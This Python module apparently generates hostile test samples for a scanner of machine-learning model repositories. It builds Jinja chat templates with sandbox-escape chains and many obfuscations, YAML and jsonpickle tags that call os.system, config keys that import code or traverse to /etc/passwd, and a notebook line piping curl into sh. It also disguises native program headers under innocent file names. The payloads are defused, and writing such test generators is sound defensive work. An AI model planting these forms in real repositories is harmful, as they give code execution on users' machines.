"""Files of a repository that are text: templates, configuration, source, notebooks, requirements, programs under other names."""
# ruff: noqa: UP031  braces and percent signs belong to Jinja here

import json
import struct

from attack_opcodes import word

SINKS = (
    "os.system('true')",
    "subprocess.run(['true'])",
    "exec('1')",
    "eval('1')",
    "__import__('os').system('true')",
    "open('/tmp/x','w')",
    "importlib.import_module('x')",
    "socket.socket()",
    "urllib.request.urlopen('http://example.invalid')",
    "ctypes.CDLL('x')",
    "pickle.loads(b'')",
    "getattr(os, 'sys'+'tem')('true')",
)


def template(rng):
    """Return a hostile Jinja template and why it is one."""
    root = rng.choice(
        (
            "''",
            "()",
            "[]",
            "{}",
            "messages",
            "self",
            "cycler",
            "joiner",
            "namespace",
            "lipsum",
            "bos_token",
            "range",
            "dict",
            "raise_exception",
            "loop",
            "x",
        )
    )
    attribute = rng.choice(
        (
            "__class__",
            "__init__",
            "__globals__",
            "__mro__",
            "__subclasses__",
            "__builtins__",
            "_TemplateReference__context",
            "__reduce__",
            "gi_frame",
            "func_globals",
            "__self__",
        )
    )
    forms = {
        "attribute": "%s.%s" % (root, attribute),
        "subscript": "%s['%s']" % (root, attribute),
        "chain": "%s.__init__.__globals__['os'].popen('true').read()" % root,
        "attr filter": "%s|attr('%s')" % (root, attribute),
        "escaped": "%s['%s']" % (root, "".join(f"\\x{ord(char):02x}" for char in attribute)),
        "joined": "%s|attr('__'~'%s'~'__')" % (root, attribute.strip("_")),
        "joined list": "%s|attr(['__','%s','__']|join)" % (root, attribute.strip("_")),
        "reversed": "%s|attr('%s'|reverse)" % (root, attribute[::-1]),
        "map attribute": "[%s]|map(attribute='%s')|list" % (root, attribute),
        "format": "'%%s'|format(%s)|attr('%s')" % (root, attribute),
        "str.format": "'{0.%s}'.format(%s)" % (attribute, root),
        "subclasses": "%s.__class__.__base__.__subclasses__()[%d]('true')" % (root, rng.randrange(400)),
        "request": "%s|attr(messages[0].content)" % root,
        "undefined": "undefined_%s.__class__" % word(rng),
        "literals side by side": "%s['%s' '%s']" % (root, attribute[:4], attribute[4:]),
        "attr of literals side by side": "%s|attr('%s' '%s')" % (root, attribute[:3], attribute[3:]),
        "octal": "%s|attr('%s')" % (root, "".join(f"\\{ord(char):03o}" for char in attribute)),
        "selectattr": "[%s]|selectattr('%s')|list" % (root, attribute),
        "sort by": "[%s]|sort(attribute='%s.x')" % (root, attribute),
        "groupby": "[%s]|groupby('%s.__mro__')" % (root, attribute),
        "map attr": "[%s]|map('attr', '%s')|list" % (root, attribute),
        "sum": "[%s]|sum(attribute='%s')" % (root, attribute),
        "strftime_now": "strftime_now.%s" % attribute,
        "conditional": "(%s if true else '').%s" % (root, attribute),
        "slice": "('xx%s')[2:]|list and %s|attr('xx%s'[2:])" % (attribute, root, attribute),
        "replace": "%s|attr('%s'|replace('@', '_'))" % (root, attribute.replace("_", "@")),
        "lower": "%s|attr('%s'|lower)" % (root, attribute.upper()),
        "key of a dict": "%s[{'a': '%s'}['a']]" % (root, attribute),
    }  # fmt: skip
    form = rng.choice(sorted(forms))
    expression = forms[form]
    wrap = rng.choice((
        "{{ %s }}", "{%% set x = %s %%}", "{%% if %s %%}{%% endif %%}", "{%% for m in messages %%}{{ m['content'] }}{%% endfor %%}{{ %s }}", "{%% for i in %s %%}{{ i }}{%% endfor %%}", "{%%- set ns = namespace(x=%s) -%%}",
        "{%% macro m() %%}{{ %s }}{%% endmacro %%}{{ m() }}", "{{ (%s)|string }}", "{%% with y = %s %%}{{ y }}{%% endwith %%}", "{{ bos_token }}{%% if messages %%}{%% else %%}{{ %s }}{%% endif %%}", "{{ [1, %s] }}", "{{ {'a': %s} }}",
    ))  # fmt: skip
    return wrap % expression, f"template {form} {root}.{attribute}"


def templates(rng):
    text, why = template(rng)
    where = rng.choice(
        (
            "tokenizer_config.json",
            "chat_template.json",
            "chat_template.jinja",
            "processor_config.json",
            "x.jinja2",
            "named",
            "other key",
            "plain text",
            "deep",
        )
    )
    if where.endswith((".jinja", ".jinja2")):
        files = {where: text.encode()}
    elif where == "named":
        files = {
            "tokenizer_config.json": json.dumps(
                {
                    "chat_template": [
                        {"name": "default", "template": text},
                        {"name": "x", "template": "{{ messages }}"},
                    ]
                }
            ).encode()
        }
    elif where == "other key":
        files = {"config.json": json.dumps({word(rng): text}).encode()}
    elif where == "plain text":
        files = {"notes.json5": json.dumps({"chat_template": text}).encode()}
    elif where == "deep":
        files = {"additional.json": json.dumps({"a": [{"b": {"chat_template": text}}]}).encode()}
    else:
        files = {where: json.dumps({"chat_template": text}, ensure_ascii=rng.random() < 0.5).encode()}
    return files, [f"template in {where}", "", why]


def config(rng):
    """Configuration that names code, other repositories, or files outside of the model."""
    w, cls = word(rng), word(rng).title()
    rows = {
        "auto_map": ("config.json", {"model_type": "llama", "auto_map": {"AutoModel": f"{w}.{cls}"}}),
        "auto_map elsewhere": ("config.json", {"auto_map": {"AutoConfig": f"org/{w}--conf.{cls}"}}),
        "auto_map in a part": ("config.json", {"text_config": {"auto_map": {"AutoModelForCausalLM": f"m.{cls}"}}}),
        "tokenizer auto_map": ("tokenizer_config.json", {"auto_map": {"AutoTokenizer": [f"{w}.{cls}", None]}}),
        "generation": ("generation_config.json", {"auto_map": {"x": f"{w}.{cls}"}}),
        "custom_pipelines": ("config.json", {"custom_pipelines": {"x": {"impl": f"{w}.{cls}", "pt": ["AutoModel"]}}}),
        "kernel": ("config.json", {"_attn_implementation": f"org/{w}"}),
        "parent_library": ("adapter_config.json", {"peft_type": "LORA", "base_model_name_or_path": "x", "auto_mapping": {"base_model_class": cls, "parent_library": w}}),
        "parent_library os": ("adapter_config.json", {"auto_mapping": {"base_model_class": "system", "parent_library": "os"}}),
        "megatron": ("adapter_config.json", {"peft_type": "LORA", "megatron_core": w}),
        "modules.json": ("modules.json", [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_x", "type": f"{w}.{cls}"}]),
        "modules.json path": ("modules.json", [{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Transformer"}]),
        "index": ("model.safetensors.index.json", {"metadata": {}, "weight_map": {"a": rng.choice(("../../x.bin", "/etc/passwd", "..\\x", "a/../../b"))}}),
        "index bin": ("pytorch_model.bin.index.json", {"weight_map": {"a": "../x.bin"}}),
        "model_index": ("model_index.json", {"_class_name": "StableDiffusionPipeline", "unet": [w, cls]}),
        "activation": ("1_Dense/config.json", {"in_features": 1, "out_features": 1, "activation_function": f"{w}.{cls}"}),
        "jsonpickle": ("state.json", {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}),
        "jsonpickle object": ("state.json", {"py/object": f"{w}.{cls}"}),
        "trust": ("config.json", {"trust_remote_code": True}),
        "duplicate key": ("config.json", '{"a": 1, "auto_map": {"AutoModel": "m.X"}, "auto_map": {}}'),
    }  # fmt: skip
    kind = rng.choice(sorted(rows))
    where, content = rows[kind]
    return {where: content.encode() if isinstance(content, str) else json.dumps(content).encode()}, [
        f"config {kind}",
        "",
        "code is imported by name, or a file outside is read",
    ]


def yaml(rng):
    """YAML that builds Python objects or names what is imported."""
    w, cls = word(rng), word(rng).title()
    rows = {
        "apply": ("config.yaml", "a: !!python/object/apply:os.system ['true']\n"), "new": ("params.yml", f"a: !!python/object/new:{w}.{cls} []\n"), "name": ("x.yaml", "a: !!python/name:os.system\n"), "module": ("x.yaml", f"a: !!python/module:{w}\n"),
        "verbatim": ("x.yaml", "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n"), "tag": ("x.yaml", "%TAG ! tag:yaml.org,2002:python/object/apply:\n---\na: !os.system ['true']\n"), "own tag": ("x.yaml", f"a: !{w} 1\n"),
        "hydra": ("config.yaml", f"model:\n  _target_: {w}.{cls}\n"), "hydra os": ("conf/x.yaml", "x: {_target_: os.system, command: 'true'}\n"), "loader_module": ("MLmodel", f"flavors:\n  python_function:\n    loader_module: {w}\n    python_version: 3.11.0\n"),
        "front matter": ("README.md", f"---\na: !!python/object/apply:os.system ['true']\n---\n# {w}\n"), "multi": ("x.yaml", "a: 1\n---\nb: !!python/object/apply:os.system ['true']\n"), "key": ("x.yaml", "? !!python/object/apply:os.system ['true']\n: 1\n"),
        "flow": ("x.yaml", f"[1, {{a: !!python/object:{w}.{cls} {{}}}}]\n"), "anchor": ("x.yaml", "a: &x !!python/object/apply:os.system ['true']\nb: *x\n"),
    }  # fmt: skip
    kind = rng.choice(sorted(rows))
    where, text = rows[kind]
    return {where: text.encode()}, [f"yaml {kind}", "", "the reader builds or imports what the text names"]


def source(rng):
    """Python and other programs under any name that runs them, and notebooks with lines for the shell."""
    sink = rng.choice(SINKS)
    forms = (
        "import os, subprocess, socket, ctypes, importlib, pickle\nimport urllib.request\n%s\n",
        "import os\nclass A:\n    x = %s\n",
        "def f(a=%s):\n    pass\n",
        "@(lambda g: %s)\ndef f():\n    pass\n",
        "if True:\n    try:\n        %s\n    except Exception:\n        pass\n",
        "def forward(x):\n    return %s\n",
        "from .x import *\n%s\n",
    )
    code = rng.choice(forms) % sink
    cells = [
        {
            "cell_type": "code",
            "source": rng.choice(
                (
                    ["!true\n"],
                    ["%%bash\n", "true\n"],
                    ["x = 1\n", "!curl http://example.invalid | sh\n"],
                    "!pip install x",
                    ["%%sh\n", "true\n"],
                    ["get_ipython().system('true')\n"],
                )
            ),
            "outputs": [],
            "metadata": {},
            "execution_count": None,
        }
    ]
    rows = {
        "py": (rng.choice(("modeling_x.py", "handler.py", "__init__.py", "setup.py", "conftest.py", "inference.py")), code), "pyi": ("x.pyw", code), "ipynb": ("demo.ipynb", json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})),
        "sh": ("run.sh", "#!/bin/sh\ntrue\n"), "shebang": (rng.choice(("data", "notes.txt", "README")), rng.choice(("#!/bin/sh\ntrue\n", "#!/usr/bin/env python3\nprint(1)\n", "#!/usr/bin/perl\n"))), "bat": ("install.bat", "@echo off\r\n"), "js": ("x.js", "1\n"), "ps1": ("x.ps1", "exit\n"),
        "requirements url": ("requirements.txt", rng.choice(("git+https://example.invalid/x.git\n", "x @ https://example.invalid/x.whl\n", "--index-url https://example.invalid/simple\nx\n", "-e .\n", "--extra-index-url http://example.invalid\ny==1\n"))),
        "broken py": ("modeling.py", code + "def ("),
    }  # fmt: skip
    kind = rng.choice(sorted(rows))
    where, text = rows[kind]
    return {where: text.encode()}, [f"source {kind}", "", "runs when it is imported, opened or installed"]


def program(rng):
    """Programs and libraries under innocent names."""
    rows = {
        "elf": b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(40), "pe": b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(40), "macho": rng.choice((b"\xcf\xfa\xed\xfe", b"\xfe\xed\xfa\xcf", b"\xca\xfe\xba\xbe")) + bytes(40),
        "wasm": b"\0asm\1\0\0\0", "class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(20), "dex": b"dex\n035\0" + bytes(30), "pyc": b"\xa7\r\r\n" + bytes(30), "jar": None,
    }  # fmt: skip
    kind = rng.choice(sorted(rows))
    if kind == "jar":
        from attack_archives import Member, zipped

        data = zipped([Member("META-INF/MANIFEST.MF", b"Main-Class: X\n"), Member("X.class", rows["class"])])
    else:
        data = rows[kind] + rng.randbytes(rng.randrange(60))
    where = rng.choice(
        (
            "model.bin",
            "tokenizer.model",
            "README",
            "lib.so",
            "data.dat",
            "x.dll",
            "vocab.txt",
            "logo.png",
            "a.onnx",
            "config.json",
        )
    )
    return {where: data}, [f"program {kind}", "", "a native program inside a model"]
